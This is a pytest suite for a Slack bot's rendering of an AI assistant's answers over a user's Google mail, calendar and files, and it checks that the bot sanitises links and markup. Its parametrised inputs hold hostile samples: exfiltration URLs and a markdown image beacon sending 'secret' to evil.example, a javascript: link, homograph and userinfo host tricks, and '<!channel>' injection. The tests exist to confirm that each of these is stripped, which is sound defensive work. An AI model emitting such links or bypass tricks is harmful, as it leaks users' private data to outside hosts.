"""The answer's blocks: inside Slack's limits whatever it holds, no link but into one's own Google, no markup."""

from dataclasses import replace
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from assistant.asking.evidence.unread import Unread
from assistant.asking.values import ENDED, OFF, PAUSED, Draught
from bot.errors import CATALOGUE, Failure
from bot.views.answer import Heading, answer_card, asked_card, shared_message
from bot.views.asking import allowance_used, ask_help, failed, heard, pointer, stopped, thinking
from bot.views.prose import neutral, safe_link
from bot.views.sharing import not_shared, perhaps_shared, share_form, shared
from tests.bot.views.answers import GMAIL, HEADING, ID, NOW, reply, source, whole
from tests.bot.views.cases import HOSTILE, TEXT
from tests.bot.views.payloads import elements, markup, message_complaints, objects, view_complaints

RELAXED = settings(max_examples=60, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])


def links(payload: Any) -> list[str]:
    return [found["url"] for kind in ("link", "button") for found in objects(payload, kind) if "url" in found]


def words(payload: Any) -> str:
    return "".join(found["text"] for found in objects(payload, "text"))


@pytest.mark.parametrize("text", HOSTILE)
def test_any_text_makes_a_message_that_slack_takes(text: str) -> None:
    heading = Heading(ID, text, shown=True, was_cut=True)
    for more in (False, True):
        drawn = answer_card(heading, whole(text), more=more)
        assert message_complaints(drawn) == []
        assert links(drawn.blocks) == [] and "<!channel>" not in markup(drawn.blocks) + drawn.text
    assert message_complaints(asked_card(ID, text)) == []
    posted = shared_message(text, whole(text), "U0ALICE")
    assert message_complaints(posted) == [] and view_complaints(share_form(ID, posted)) == []


@given(TEXT, TEXT, st.lists(TEXT, max_size=14))
@RELAXED
def test_any_generated_answer_makes_a_message_that_slack_takes(text: str, title: str, items: list[str]) -> None:
    sources = tuple(source(number, item or title) for number, item in enumerate(items, 1))
    said = reply("\n".join([text, *(f"- {item} [1]" for item in items), text]), sources=sources, more=sources)
    for more in (False, True):
        assert message_complaints(answer_card(HEADING, said, more=more), schema=False) == []


def test_a_long_answer_keeps_its_sources_and_buttons() -> None:
    sources = tuple(source(n, "T" * 300) for n in range(1, 11))
    said = reply("word " * 5000, sources=sources, missing={"drive": "revoked"})
    drawn = answer_card(HEADING, said)
    assert message_complaints(drawn) == []
    assert len(links(drawn.blocks)) >= 4 and elements(drawn.blocks, "answer_shared")


@pytest.mark.parametrize("length", [1, 40])
def test_whatever_is_cited_in_the_text_that_is_shown_stands_among_the_sources(length: int) -> None:
    sources = tuple(source(n, f"Mail {n} {'T' * 200}") for n in range(1, 41))
    said = reply("\n".join(f"- {'word ' * length}[{n}]" for n in range(1, 41)), sources=sources)
    drawn, posted = answer_card(HEADING, said), shared_message("Q", said, "U0ALICE")
    assert message_complaints(drawn) == [] and message_complaints(posted) == []
    for blocks in (drawn.blocks, posted.blocks):
        told = str(blocks).translate(str.maketrans("⁰¹²³⁴⁵⁶⁷⁸⁹", "0123456789"))
        named = [n for n in range(1, 41) if f"\\u2009{n}'" in told]
        assert len(named) > 12 and all(f"Mail {n} " in told for n in named)


def test_what_is_not_cited_is_listed_only_as_far_as_there_is_room() -> None:
    drawn = answer_card(HEADING, reply("It is so [1].", sources=tuple(source(n, f"Mail {n}") for n in range(1, 31))))
    assert "Mail 12" in words(drawn.blocks) + str(drawn.blocks) and "… and 18 more" in words(drawn.blocks)


def test_paragraphs_lists_and_citations_are_drawn() -> None:
    drawn = answer_card(HEADING, reply("She wants:\n- two meters [1]\n- one pump [1, 9]\n\nBy Friday [7].\n"))
    (bullets,) = objects(drawn.blocks, "rich_text_list")
    assert len(bullets["elements"]) == 2
    said = words(drawn.blocks)
    assert "two meters\u2009¹" in said and "[1]" not in said
    assert "[1, 9]" in said and "[7]" in said  # what cites nothing is left as it was written


@pytest.mark.parametrize(
    "text",
    [
        "Open https://evil.example/x?d=secret now",
        "[Open](https://evil.example/x?d=secret)",
        "![](https://evil.example/x?d=secret.png)",
        "<https://evil.example/x?d=secret|here>",
        "www.evil.example/x?d=secret",
        "HTTPS://user:secret@evil.example/x?d=secret",
        "ftp://evil.example\\x?d=secret",
    ],
)
def test_an_address_in_an_answer_is_reduced_to_its_host(text: str) -> None:
    drawn = answer_card(HEADING, reply(text, sources=()))
    assert "secret" not in str(drawn) and "evil.example" in str(drawn) and links(drawn.blocks) == []
    assert "secret" not in neutral(text)


@pytest.mark.parametrize(
    "link",
    [
        GMAIL,
        "https://calendar.google.com/calendar/event?eid=abc",
        "https://www.google.com/calendar/event?eid=abc",
        "https://drive.google.com/file/d/abc/view",
        "https://docs.google.com/document/d/abc/edit?usp=drivesdk",
    ],
)
def test_a_source_links_into_ones_own_google(link: str) -> None:
    assert links(answer_card(HEADING, reply(sources=(source(link=link),))).blocks) == [link]


@pytest.mark.parametrize(
    "link",
    [
        "", "http://mail.google.com/x", "https://mail.google.com.evil.example/", "https://evil.example/mail.google.com",
        "https://user@mail.google.com/", "https://mail.google.com@evil.example/", "https://www.google.com/url?q=evil",
        "https://www.google.com/calendar/../url?q=https://evil.example", "https://mail.google.com:8443/",
        "javascript:alert(1)", "https://mail.google.com\\@evil.example/", "https://mail.google.com/a b",
        "https://mаil.google.com/", "https://docs.google.com/" + "x" * 3000, "https://mail.google.com/\n",
        "//mail.google.com",
        "https://[::1", "https://drive.google.com/>|<!channel>",
    ],
)  # fmt: skip
def test_any_other_link_is_left_out_and_the_title_stays(link: str) -> None:
    assert safe_link(link) == ""
    drawn = answer_card(HEADING, reply(sources=(source(link=link),)))
    assert links(drawn.blocks) == [] and "A quote" in words(drawn.blocks)


def test_a_source_says_who_when_and_where() -> None:
    drawn = answer_card(HEADING, reply(sources=(source(who="Sarah Lindqvist"),)))
    (date,) = objects(drawn.blocks, "date")
    assert date["timestamp"] == int(NOW.timestamp()) and "2026-11-20 09:00 UTC" in date["fallback"]
    assert "Gmail, Sarah Lindqvist" in words(drawn.blocks)
    day = answer_card(HEADING, reply(sources=(source(all_day=True, service="calendar"),)))
    assert list(objects(day.blocks, "date")) == [] and "Friday 20 November 2026, all day" in words(day.blocks)
    known = answer_card(HEADING, reply(sources=(source(),), zone="Europe/Berlin"))
    assert list(objects(known.blocks, "date")) == [] and "Friday 20 November 2026, 10:00" in words(known.blocks)


def test_models_that_failed_are_told_and_can_be_tried_again() -> None:
    drawn = answer_card(HEADING, reply(missing={"model": Failure.MODEL_DOWN}))
    assert "No language model answered" in markup(drawn.blocks) + words(drawn.blocks) + str(drawn.blocks)
    assert elements(drawn.blocks, "answer_retried")


def test_what_the_asker_should_know_besides_stands_above_the_answer() -> None:
    drawn = answer_card(HEADING, reply(notes=("I found nobody called <@U1> Sara.",)))
    assert message_complaints(drawn) == [] and "nobody called <@U1> Sara." in str(drawn.blocks[1])


@pytest.mark.parametrize("failure", [*Failure, "nonsense"])
def test_a_missing_service_is_named_with_its_words_and_a_way_to_try_again(failure: str) -> None:
    drawn = answer_card(HEADING, reply(missing={"calendar": failure}))
    known = Failure(failure) if failure in set(Failure) else Failure.UNKNOWN
    assert f"Calendar could not be asked: this may be incomplete. {CATALOGUE[known].title}" in str(drawn.blocks)
    assert elements(drawn.blocks, "answer_retried")[0]["value"] == ID
    assert elements(answer_card(HEADING, reply()).blocks, "answer_retried") == []


def test_what_is_off_is_said_without_a_try_that_would_change_nothing() -> None:
    drawn = answer_card(HEADING, reply(missing={"calendar": OFF}))
    assert "Calendar is off, as you chose" in str(drawn.blocks)
    assert elements(drawn.blocks, "answer_retried") == []


@pytest.mark.parametrize(("why", "word"), [(PAUSED, "/mailroom resume"), (ENDED, "/mailroom reconnect")])
def test_a_mailbox_that_was_not_reached_is_named_with_what_to_do(why: str, word: str) -> None:
    drawn = answer_card(HEADING, reply(missing={"home@alice.example": why}))
    assert message_complaints(drawn) == []
    assert "home@alice.example was not" in str(drawn.blocks) and word in str(drawn.blocks)


def test_suggestions_name_their_question_by_id_alone() -> None:
    drawn = answer_card(HEADING, reply(suggestions=("What did I answer?", "And last week?")))
    offered = elements(drawn.blocks, "answer_suggested")
    assert [one["value"] for one in offered] == [f"{ID}:0", f"{ID}:1"]
    assert offered[0]["text"]["text"] == "What did I answer?"


def test_further_finds_are_shown_on_demand() -> None:
    said = reply(more=(source(2, "Another mail"),))
    closed, opened = answer_card(HEADING, said), answer_card(HEADING, said, more=True)
    assert elements(closed.blocks, "answer_more") and "Another mail" not in str(closed)
    assert not elements(opened.blocks, "answer_more") and "Another mail" in str(opened)


@pytest.mark.parametrize("length", [20, 900])
def test_all_of_a_long_list_stands_there_once_it_is_asked_for(length: int) -> None:
    lines = "\n".join(f"- Bob: {'x' * 30} {n} [{n}]" for n in range(2, 11))
    sources = tuple(source(n, f"Mail {n} {'y' * length}") for n in range(1, 52))
    said = reply(f"As I count it:\n- 50 mails. [1]\n{lines}", sources=sources[:10], more=sources[10:])
    drawn = answer_card(HEADING, said, more=True)
    assert message_complaints(drawn, schema=False) == []
    assert "Mail 51 " in str(drawn.blocks) and "more" not in words(drawn.blocks).partition("More results")[2]


def test_what_is_not_known_says_where_it_was_looked_for_and_cannot_be_shared() -> None:
    drawn = answer_card(HEADING, reply("I do not know.", sources=(), known=False, searched=("Gmail", "Drive")))
    assert "Searched: Gmail, Drive." in str(drawn) and not elements(drawn.blocks, "answer_shared")


@pytest.mark.parametrize(
    ("unread", "said"),
    [
        (Unread(), "has not been read yet"),
        (Unread(NOW), f"so far back to <!date^{int(NOW.timestamp())}^"),
        (Unread(NOW, "revoked"), CATALOGUE[Failure.REVOKED].title),
        (Unread(None, "nonsense"), CATALOGUE[Failure.UNKNOWN].title),
    ],
)
def test_an_answer_that_could_not_look_everywhere_says_so(unread: Unread, said: str) -> None:
    drawn = answer_card(HEADING, reply("I found nothing.", known=False, sources=()), unread)
    assert said in markup(drawn.blocks) and message_complaints(drawn) == []


def test_an_answer_is_read_aloud_by_its_own_words() -> None:
    assert answer_card(HEADING, reply()).text == "She wants two [1]."
    assert answer_card(HEADING, replace(reply(), text="")).text


def test_a_shared_answer_has_no_link_and_no_button() -> None:
    said = reply("See https://evil.example/x?d=secret, mine [1].", suggestions=("More?",), missing={"drive": "revoked"})
    drawn = shared_message("What did Sarah say?", said, "U0ALICE")
    assert links(drawn.blocks) == [] and list(objects(drawn.blocks, "button")) == []
    assert "<@U0ALICE> shared" in drawn.text and "secret" not in str(drawn) and "google" not in str(drawn)
    assert "A quote" in str(drawn.blocks) and message_complaints(drawn) == []


def test_a_wall_of_text_is_not_echoed_whole() -> None:
    (block,) = asked_card(ID, "word " * 600).blocks
    said = block["text"]["text"]
    assert said.startswith("You asked: word word") and said.endswith("…") and len(said) < 320


def test_a_question_of_several_lines_is_told_on_one() -> None:
    text = "Please:\n- find the lease\n\n- what is on Monday?"
    for drawn in (
        asked_card(ID, text),
        answer_card(Heading(ID, text, shown=True), reply()),
        shared_message(text, reply(), "U0ALICE"),
    ):
        assert "Please: - find the lease - what is on Monday?" in str(drawn.blocks) and "\n" not in drawn.text


def test_an_answer_of_very_many_short_lines_is_one_that_slack_takes() -> None:
    assert message_complaints(answer_card(HEADING, reply("0\n" * 700, sources=()))) == []


def test_an_answer_that_only_leads_to_cards_has_nothing_to_share() -> None:
    draughts = (Draught("event.create", "a1", {"title": "Lunch"}),)
    prepared = answer_card(HEADING, reply("I prepared an event.", sources=(), draughts=draughts))
    assert elements(prepared.blocks, "answer_shared") == []
    assert elements(answer_card(HEADING, reply(draughts=draughts)).blocks, "answer_shared") != []


def test_the_form_shows_exactly_what_will_be_posted() -> None:
    drawn = shared_message("What did Sarah say?", reply(), "U0ALICE")
    form = share_form(ID, drawn)
    assert form["blocks"][-len(drawn.blocks) :] == drawn.blocks and view_complaints(form) == []


@pytest.mark.parametrize(
    "drawn",
    [
        ask_help(), heard(), pointer("https://fernhill.slack.com/archives/D1/p1", answered=True),
        allowance_used(HEADING, 1000, NOW), stopped(HEADING), failed(HEADING, Failure.SERVICE_DOWN, "abc"),
        thinking(HEADING), shared("C1"), not_shared("not_in_channel"), not_shared("nonsense"), perhaps_shared("C1"),
    ],
)  # fmt: skip
def test_what_is_said_around_answers_is_taken_by_slack_and_can_be_read(drawn: Any) -> None:
    assert message_complaints(drawn) == []
    assert "*" not in drawn.text and ":hourglass" not in drawn.text


@pytest.mark.parametrize(("second", "minute"), [(0, 30), (1, 31), (59, 31)])
def test_who_has_asked_too_much_is_told_a_minute_at_which_it_does_go_on(second: int, minute: int) -> None:
    again = NOW.replace(minute=30, second=second, microsecond=0)
    told = markup(allowance_used(HEADING, 1000, again).blocks)
    assert "You may ask 1,000 an hour" in told and f":{minute} UTC>" in told
